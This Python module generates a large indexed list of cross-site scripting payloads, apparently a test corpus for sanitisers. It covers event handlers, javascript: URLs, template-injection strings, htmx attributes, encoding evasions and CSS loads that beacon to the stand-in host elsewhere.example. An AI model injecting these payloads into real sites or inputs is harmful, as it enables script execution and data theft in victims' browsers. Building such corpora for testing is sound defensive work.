"""What somebody might write into a field to run a script on another's screen: our own list.

Each calls `hurt` with its own number. They are made from kinds: what opens, what calls, how it
is quoted, spelled and hidden.
"""

from collections.abc import Iterator
from functools import cache
from itertools import product

ELSEWHERE = "elsewhere.example"
CALL = "hurt"
_HERE = "@@"

_CLOSERS = (
    *("", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>"),
    *("</option></select>", "-->", "]]>", '">', "'>", "<!--><!-->", "</svg></math>", "</button>"),
)
_SCRIPTS = (
    *("<script>@@</script>", "<ScRiPt>@@</sCrIpT>", "<script/x>@@</script>"),
    *("<script\n>@@</script\n>", "<script\t type=module>@@</script>", "<<script>@@//</script>"),
    *("<svg><script>@@</script></svg>", "<script src='data:text/javascript,@@'></script>"),
)
_ELEMENTS = (
    *("<img src=x onerror", "<image src=x onerror", "<svg onload", "<body onload"),
    *("<video src=x onerror", "<audio src=x onerror", "<iframe onload", "<style onload"),
    *("<input autofocus onfocus", "<select autofocus onfocus", "<textarea autofocus onfocus"),
    *("<details open ontoggle", "<video><source src=x onerror", "<object data=x onerror"),
    *("<link rel=stylesheet href=x onerror", "<p onmouseover", "<a onpointerover"),
    *("<marquee onstart", "<p tabindex=0 autofocus onfocus", "<svg><animate onbegin"),
    *("<svg><set attributeName=x onbegin", "<embed src=x onerror", "<p onanimationstart"),
    *("<img src=x ONERROR", "<img\nsrc=x\nonerror", "<img/src=x/onerror", "<img src=x onerror\t"),
)
_QUOTES = ("=@@>", "='@@'>", '="@@">', "=&#104;urt(@#)>", "=`@@`>")
_URLS = (
    *("javascript:@@", "JaVaScRiPt:@@", " javascript:@@", "java\tscript:@@", "java\nscript:@@"),
    *("javascript&colon;@@", "&#106;avascript:@@", "\x01javascript:@@", "javascript:/**/@@"),
    *("javascript://%0a@@", "data:text/html,<script>@@</script>", "vbscript:@@"),
)
_LINKS = (
    *("<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button>x</button>"),
    *("<object data='{}'></object>", "<embed src='{}'>", "<svg><a xlink:href='{}'>x</a></svg>"),
    *("<math href='{}'>x</math>", "<meta http-equiv=refresh content='0;url={}'>", "{}"),
)
_ATTRIBUTES = (
    *('" onmouseover="@@', "' onmouseover='@@", " onmouseover=@@ ", "` onmouseover=`@@"),
    *('" autofocus onfocus="@@" x="', "' autofocus onfocus='@@' x='", " autofocus onfocus=@@ x="),
    *(
        '"onpointerover="@@',
        "'onpointerover='@@",
        '"/onpointerover="@@',
        '" style="x:y" onclick="@@',
    ),
    *('"><img src=x onerror=@@>', "'><img src=x onerror=@@>", "><img src=x onerror=@@>"),
    *('\\" onmouseover=\\"@@', "&quot; onmouseover=&quot;@@", '" accesskey="x" onclick="@@'),
)
_STRINGS = (
    *("';@@;//", '";@@;//', "\\';@@;//", '\\";@@;//', "`;@@;//", "${@@}", "'-@@-'", '"-@@-"'),
    *(
        "\u2028@@//",
        "\u2029@@//",
        "*/@@/*",
        "\n@@\n",
        "'});@@;({x:'",
        "</script><script>@@</script>",
    ),
    *("\\u0027;@@;//", "\\x27;@@;//", "<!--<script>", "');@@;('", '");@@;("'),
)
_TEMPLATES = (
    *("{{ @@ }}", "{% @@ %}", "${@@}", "#{@@}", "<%= @@ %>", "{{constructor.constructor('@@')()}}"),
    *("{{ '@@'|safe }}", "{% autoescape off %}<script>@@</script>{% endautoescape %}"),
    *("{% load static %}{{ request }}", "{{ 7|add:7 }}", "{% debug %}", "{{{@@}}}", "[[@@]]"),
    *("{# @@ #}", "%(@@)s", "{0.__class__}", "{% include '@@' %}", "{{ form.as_p }}"),
)
_HTMX = (
    *("<p hx-on:mouseover='@@'>", "<p hx-on::load='@@'>", "<p hx-on='mouseover: @@'>"),
    *("<p hx-get=/ hx-trigger='load[@@]'>", "<p hx-get=/ hx-vals='js:{x: @@}' hx-trigger=load>"),
    *("<p hx-get=/ hx-vars='x:@@' hx-trigger=load>", "<p data-hx-on:mouseover='@@'>"),
    *("<p hx-get=/ hx-headers='js:{x: @@}' hx-trigger=load>", "<p hx-ext=sse sse-connect=/live>"),
    *("<p hx-get='https://elsewhere.example/@#' hx-trigger=load>", '" hx-on:mouseover="@@'),
    *("<p hx-get='javascript:@@' hx-trigger=load>", '" hx-get="/" hx-trigger="load[@@]'),
    *("<p hx-post=/leave/ hx-trigger=load>", "<p _='on load call @@'>", "<p x-init='@@' x-data>"),
)
_STYLES = (
    *("<style>*{background:url(//elsewhere.example/@#)}</style>", '" style="width:expression(@@)'),
    *("<style>@import '//elsewhere.example/@#';</style>", "<p style='x:expression(@@)'>"),
    *('" style="background:url(//elsewhere.example/@#)', "</style><style onload=@@>"),
    *("<p style='-moz-binding:url(//elsewhere.example/@#)'>", "<link rel=import href='data:,@@'>"),
    *("<base href=//elsewhere.example/>", "<img src=//elsewhere.example/@#>"),
    *("<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=@@>",),
)
_HIDDEN = (
    *("&lt;script&gt;@@&lt;/script&gt;", "&#60;img src=x onerror=@@&#62;"),
    *("&#x3c;img src=x onerror=@@&#x3e;", "%3Cscript%3E@@%3C/script%3E", "%253Cscript%253E@@"),
    *("\\x3cimg src=x onerror=@@\\x3e", "\\u003cimg src=x onerror=@@\\u003e"),
    *("\uff1cscript\uff1e@@\uff1c/script\uff1e", "+ADw-script+AD4-@@+ADw-/script+AD4-"),
    *(
        "<\u017fcript>@@</\u017fcript>",
        "<scr\u200bipt>@@</scr\u200bipt>",
        "\u202e<script>@@</script>",
    ),
    *("<scr\x00ipt>@@</scr\x00ipt>", "\x00<script>@@</script>", "<img\x00 src=x onerror=@@>"),
    *("<img src=x onerror=@@\x00>", "\ufeff<script>@@</script>", "<script\u3000>@@</script>"),
    *(
        "\u2066<svg onload=@@>\u2069",
        "e\u0301\u0301<svg onload=@@>",
        "\U0001f469\u200d\U0001f33e<svg onload=@@>",
    ),
    *("&amp;lt;script&amp;gt;@@&amp;lt;/script&amp;gt;", "<%00script>@@</script>"),
    *("<noscript><p title='</noscript><img src=x onerror=@@>'>", "<scr<script>ipt>@@</script>"),
    *(
        "<math><mtext><table><mglyph><style><img src=x onerror=@@>",
        "<svg><style><img src=x onerror=@@>",
    ),
    *("<template><script>@@</script></template>", "<xmp><p title='</xmp><img src=x onerror=@@>'>"),
)


@cache
def payloads() -> tuple[str, ...]:
    """Return all of them, each once, each calling with its place in the list."""
    kinds = list(dict.fromkeys(_kinds()))
    return tuple(_calling(kind, number) for number, kind in enumerate(kinds))


def in_turn(first: int) -> str:
    """Return all of them in one text that begins with one of the list, wherever it stands."""
    listed = payloads()
    start = first * 7 % len(listed)
    return " ".join([*listed[start:], *listed[:start]])


def _kinds() -> Iterator[str]:
    yield from (closer + _SCRIPTS[0] for closer in _CLOSERS)
    yield from _SCRIPTS
    yield from (element + quote for element, quote in product(_ELEMENTS, _QUOTES[:3]))
    yield from (element + quote for element, quote in product(_ELEMENTS[:8], _QUOTES[3:]))
    yield from (link.format(url) for link, url in product(_LINKS, _URLS))
    for some in (_ATTRIBUTES, _STRINGS, _TEMPLATES, _HTMX, _STYLES, _HIDDEN):
        yield from some


def _calling(kind: str, number: int) -> str:
    return kind.replace(_HERE, f"{CALL}({number})").replace("@#", str(number))
